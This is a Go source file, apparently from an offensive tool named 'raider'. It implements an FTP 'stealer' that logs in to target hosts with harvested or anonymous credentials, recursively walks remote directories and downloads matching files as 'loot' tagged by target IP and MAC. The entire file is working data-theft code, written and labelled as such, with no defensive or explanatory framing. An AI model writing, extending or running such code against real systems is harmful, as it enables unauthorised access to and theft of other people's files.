package steal

import (
	"context"
	"fmt"
	"path"
	"time"

	"raider/internal/core/loot"
	"raider/internal/core/model"
	"raider/internal/pkg/logger"

	"github.com/jlaffaye/ftp"
)

// 目录遍历深度上限，防循环链接和超大目录树
const maxWalkDepth = 3

// FTPStealer FTP 文件窃取器
type FTPStealer struct {
	files  *loot.FileStore
	limits Limits
}

func NewFTPStealer(files *loot.FileStore, limits Limits) *FTPStealer {
	return &FTPStealer{files: files, limits: limits}
}

func (s *FTPStealer) Protocol() string {
	return "ftp"
}

func (s *FTPStealer) Steal(ctx context.Context, target *model.Target, port int, cred model.CredentialRecord) (int, error) {
	conn, err := ftp.DialTimeout(fmt.Sprintf("%s:%d", target.IP, port), 10*time.Second)
	if err != nil {
		return 0, fmt.Errorf("ftp dial failed: %w", err)
	}
	defer conn.Quit()

	user, pass := cred.Username, cred.Password
	if cred.IsGuest() {
		user, pass = "anonymous", "anonymous@"
	}
	if err := conn.Login(user, pass); err != nil {
		return 0, fmt.Errorf("ftp login failed: %w", err)
	}

	grabbed := 0
	err = s.walk(ctx, conn, target, "/", 0, &grabbed)
	return grabbed, err
}

// walk 深度优先遍历远端目录，命中即下载
func (s *FTPStealer) walk(ctx context.Context, conn *ftp.ServerConn, target *model.Target, dir string, depth int, grabbed *int) error {
	if depth > maxWalkDepth {
		return nil
	}
	entries, err := conn.List(dir)
	if err != nil {
		return nil // 读不了的目录跳过
	}

	for _, entry := range entries {
		select {
		case <-ctx.Done():
			return ctx.Err()
		default:
		}
		if s.limits.MaxFilesPerHost > 0 && *grabbed >= s.limits.MaxFilesPerHost {
			return nil
		}

		remote := path.Join(dir, entry.Name)
		switch entry.Type {
		case ftp.EntryTypeFolder:
			if entry.Name == "." || entry.Name == ".." {
				continue
			}
			if err := s.walk(ctx, conn, target, remote, depth+1, grabbed); err != nil {
				return err
			}
		case ftp.EntryTypeFile:
			if !s.limits.WantFile(entry.Name) || !s.limits.SizeOK(int64(entry.Size)) {
				continue
			}
			resp, err := conn.Retr(remote)
			if err != nil {
				logger.Debugf("ftp retr %s failed on %s: %v", remote, target.IP, err)
				continue
			}
			local, err := s.files.Save("ftp", target.MAC, target.IP, remote, resp)
			resp.Close()
			if err != nil {
				logger.Warnf("ftp loot save failed for %s: %v", remote, err)
				continue
			}
			logger.Infof("ftp loot %s -> %s", remote, local)
			*grabbed++
		}
	}
	return nil
}
